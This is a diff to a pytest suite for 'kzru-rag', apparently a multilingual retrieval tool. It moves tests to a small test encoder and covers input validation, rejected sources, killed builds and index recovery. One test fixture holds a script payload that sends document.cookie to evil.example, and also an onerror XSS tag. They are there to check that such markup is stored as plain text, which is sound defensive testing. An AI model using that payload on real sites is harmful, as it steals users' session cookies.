@@ -104,15 +104,23 @@ def fingerprint(folder: Path) -> dict[str, str]:
 
 @pytest.fixture(scope="session")
 def bundled_index(tmp_path_factory, embedder) -> Path:
-    """An index of the bundled document built by this kzru-rag (so with every current safeguard)."""
+    """An index of the bundled document built by this kzru-rag with the bundled model (slow tests)."""
     path = tmp_path_factory.mktemp("bundled") / "index"
     build_index(None, embedder, path)
     return path
 
 
 @pytest.fixture()
-def working_index(tmp_path, bundled_index) -> Path:
-    """A private copy of an index of the bundled document."""
+def working_index(tmp_path, small_index) -> Path:
+    """A private copy of the bundled document's index built with the small test encoder."""
+    copy = tmp_path / "index"
+    shutil.copytree(small_index, copy)
+    return copy
+
+
+@pytest.fixture()
+def bundled_working_index(tmp_path, bundled_index) -> Path:
+    """A private copy of `bundled_index`, for a child process that loads the index's own model."""
     copy = tmp_path / "index"
     shutil.copytree(bundled_index, copy)
     return copy
@@ -123,9 +131,9 @@ def working_index(tmp_path, bundled_index) -> Path:
 
 @PROPERTY
 @given(question=QUESTIONS)
-def test_any_question_gives_hits_or_a_clear_error(retriever, question):
+def test_any_question_gives_hits_or_a_clear_error(small_retriever, question):
     try:
-        hits = within(HANG_GUARD_SECONDS, lambda: retriever.search(question, k=5))
+        hits = within(HANG_GUARD_SECONDS, lambda: small_retriever.search(question, k=5))
     except ValueError as exc:
         assert "question" in str(exc), f"unclear message: {exc}"
         return
@@ -135,24 +143,24 @@ def test_any_question_gives_hits_or_a_clear_error(retriever, question):
 
 
 @pytest.mark.parametrize("question", ["", " ", "\n\t\r ", "\u3000\u00a0"])
-def test_blank_questions_are_refused_with_a_message(retriever, question):
+def test_blank_questions_are_refused_with_a_message(small_retriever, question):
     with pytest.raises(ValueError, match="the question is empty"):
-        retriever.search(question)
+        small_retriever.search(question)
 
 
 @pytest.mark.parametrize("question", [None, 42, b"\xd0\xb3\xd0\xb4\xd0\xb5", ["форум"]])
-def test_a_question_that_is_not_text_is_refused(retriever, question):
+def test_a_question_that_is_not_text_is_refused(small_retriever, question):
     with pytest.raises(ValueError, match="the question must be text"):
-        retriever.search(question)
+        small_retriever.search(question)
 
 
-def test_concurrent_searches_give_the_same_hits_as_sequential_ones(retriever):
+def test_concurrent_searches_give_the_same_hits_as_sequential_ones(small_retriever):
     questions = ["Где проходит форум?", "Who did Tokayev meet?", "Қандай келісімдер жасалды?", "<b>ГРЭС</b>"] * 4
-    expected = {q: [hit.chunk_id for hit in retriever.search(q)] for q in set(questions)}
+    expected = {q: [hit.chunk_id for hit in small_retriever.search(q)] for q in set(questions)}
     results: dict[int, list[str]] = {}
 
     def ask(i: int, question: str) -> None:
-        results[i] = [hit.chunk_id for hit in retriever.search(question)]
+        results[i] = [hit.chunk_id for hit in small_retriever.search(question)]
 
     threads = [threading.Thread(target=ask, args=(i, q)) for i, q in enumerate(questions)]
     for thread in threads:
@@ -192,28 +200,28 @@ BAD_SOURCES = [
 
 
 @pytest.mark.parametrize("name,content,message", BAD_SOURCES, ids=[name for name, _, _ in BAD_SOURCES])
-def test_a_bad_source_is_refused_and_the_working_index_kept(working_index, tmp_path, embedder, name, content, message):
+def test_a_bad_source_is_refused_and_the_working_index_kept(working_index, tmp_path, encoder, name, content, message):
     before = fingerprint(working_index)
     bad = _write(tmp_path / name, content)
     with pytest.raises(IndexBuildError, match=message) as raised:
-        build_index([bad], embedder, working_index)
+        build_index([bad], encoder, working_index)
     assert "existing index was left as it was" in str(raised.value)
     assert fingerprint(working_index) == before
-    assert Retriever(load_index(working_index), embedder).search("Где проходит форум?")
+    assert Retriever(load_index(working_index), encoder).search("Где проходит форум?")
 
 
-def test_one_bad_file_in_a_folder_refuses_the_whole_build(working_index, tmp_path, embedder):
+def test_one_bad_file_in_a_folder_refuses_the_whole_build(working_index, tmp_path, encoder):
     before = fingerprint(working_index)
     folder = tmp_path / "docs"
     folder.mkdir()
     (folder / "good.txt").write_text("Хороший абзац о форуме в Уральске.", encoding="utf-8")
     _write(folder / "bad.txt", "Плохой".encode("cp1251"))
     with pytest.raises(IndexBuildError, match=r"bad\.txt: not valid UTF-8"):
-        build_index([folder], embedder, working_index)
+        build_index([folder], encoder, working_index)
     assert fingerprint(working_index) == before
 
 
-def test_a_file_over_the_size_limit_is_refused_before_reading(working_index, tmp_path, embedder):
+def test_a_file_over_the_size_limit_is_refused_before_reading(working_index, tmp_path, encoder):
     before = fingerprint(working_index)
     big = tmp_path / "big.txt"
     line = "Форум межрегионального сотрудничества прошёл в Уральске.\n".encode()
@@ -223,13 +231,13 @@ def test_a_file_over_the_size_limit_is_refused_before_reading(working_index, tmp
                 handle.write(line)
         assert big.stat().st_size > MAX_SOURCE_BYTES
         with pytest.raises(IndexBuildError, match="larger than the 50 MB limit; split it"):
-            within(HANG_GUARD_SECONDS, lambda: build_index([big], embedder, working_index))
+            within(HANG_GUARD_SECONDS, lambda: build_index([big], encoder, working_index))
     finally:
         big.unlink()
     assert fingerprint(working_index) == before
 
 
-def test_html_and_javascript_in_a_text_file_are_indexed_as_plain_text(tmp_path, embedder):
+def test_html_and_javascript_in_a_text_file_are_indexed_as_plain_text(tmp_path, encoder):
     page = (
         "<script>fetch('https://evil.example/?k=' + document.cookie)</script>\n\n"
         '<img src="x" onerror="alert(1)"> Форум межрегионального сотрудничества пройдёт в Уральске.\n\n'
@@ -238,9 +246,11 @@ def test_html_and_javascript_in_a_text_file_are_indexed_as_plain_text(tmp_path, 
     source = tmp_path / "page.md"
     source.write_text(page, encoding="utf-8")
     index = tmp_path / "html-index"
-    build_index([source], embedder, index)
-    retriever = Retriever(load_index(index), embedder)
-    hits = retriever.search("Где пройдёт форум?", k=3) + retriever.search("fetch document.cookie script", k=3)
+    build_index([source], encoder, index)
+    small_retriever = Retriever(load_index(index), encoder)
+    hits = small_retriever.search("Где пройдёт форум?", k=3) + small_retriever.search(
+        "fetch document.cookie script", k=3
+    )
     assert all(page[hit.start : hit.end] == hit.text for hit in hits), "hits are exact, unaltered slices"
     assert any("<script>fetch(" in hit.text for hit in hits)
 
@@ -296,22 +306,26 @@ print("same" if after == before else f"different: {before} -> {after}")
 """
 
 
-def test_a_loaded_retriever_survives_its_files_being_truncated_or_deleted(working_index):
+@pytest.mark.slow
+def test_a_loaded_retriever_survives_its_files_being_truncated_or_deleted(bundled_working_index):
     child = subprocess.run(
-        [sys.executable, "-c", SURVIVOR, str(working_index)], capture_output=True, text=True, timeout=HANG_GUARD_SECONDS
+        [sys.executable, "-c", SURVIVOR, str(bundled_working_index)],
+        capture_output=True,
+        text=True,
+        timeout=HANG_GUARD_SECONDS,
     )
     assert child.returncode == 0, f"the process died ({child.returncode}): {child.stderr[-2000:]}"
     assert child.stdout.strip() == "same"
     with pytest.raises(IndexLoadError, match="kzru-rag index build"):
-        load_index(working_index)
+        load_index(bundled_working_index)
 
 
-def test_a_damaged_index_is_rebuilt_in_place(working_index, embedder):
+def test_a_damaged_index_is_rebuilt_in_place(working_index, encoder):
     (working_index / "vectors.faiss").write_bytes(b"garbage")
     with pytest.raises(IndexLoadError):
         load_index(working_index)
-    build_index(None, embedder, working_index)
-    assert Retriever(load_index(working_index), embedder).search("Где проходит форум?")
+    build_index(None, encoder, working_index)
+    assert Retriever(load_index(working_index), encoder).search("Где проходит форум?")
 
 
 # --- killed builds ---------------------------------------------------------------------------------------
@@ -343,7 +357,7 @@ def _kill(process: subprocess.Popen[str]) -> None:
     assert process.returncode == -signal.SIGKILL
 
 
-def test_a_build_killed_mid_embedding_leaves_the_previous_index(working_index, tmp_path, embedder):
+def test_a_build_killed_mid_embedding_leaves_the_previous_index(working_index, tmp_path, encoder):
     before = fingerprint(working_index)
     build = _start_build(_news(tmp_path / "news", 200), working_index, "--pause")
     try:
@@ -352,10 +366,11 @@ def test_a_build_killed_mid_embedding_leaves_the_previous_index(working_index, t
     finally:
         _kill(build)
     assert fingerprint(working_index) == before
-    assert Retriever(load_index(working_index), embedder).search("Где проходит форум?")
+    assert Retriever(load_index(working_index), encoder).search("Где проходит форум?")
     assert sorted(p.name for p in tmp_path.iterdir()) == ["index", "news"], "nothing left beside the index"
 
 
+@pytest.mark.slow
 def test_a_build_killed_while_writing_leaves_a_loadable_index_and_the_next_build_works(working_index, tmp_path):
     before = fingerprint(working_index)
     news = _news(tmp_path / "news", 3000)
@@ -415,8 +430,8 @@ def _check_answer(answer: Answer) -> None:
 
 @PROPERTY
 @given(question=QUESTIONS, history=HISTORIES)
-def test_the_assistant_answers_any_question_or_says_what_is_wrong(retriever, question, history):
-    assistant = Assistant(retriever, llm=None, k=5)
+def test_the_assistant_answers_any_question_or_says_what_is_wrong(small_retriever, question, history):
+    assistant = Assistant(small_retriever, llm=None, k=5)
     try:
         answer = within(HANG_GUARD_SECONDS, lambda: assistant.ask(question, history=history))
     except ValueError as exc:
@@ -427,8 +442,8 @@ def test_the_assistant_answers_any_question_or_says_what_is_wrong(retriever, que
 
 @PROPERTY
 @given(question=QUESTIONS)
-def test_the_assistant_with_an_llm_streams_any_question_or_says_what_is_wrong(retriever, stub_llm, question):
-    assistant = Assistant(retriever, llm=stub_llm, k=5)
+def test_the_assistant_with_an_llm_streams_any_question_or_says_what_is_wrong(small_retriever, stub_llm, question):
+    assistant = Assistant(small_retriever, llm=stub_llm, k=5)
     try:
         items = within(HANG_GUARD_SECONDS, lambda: list(assistant.stream(question, history=[])))
     except ValueError as exc:
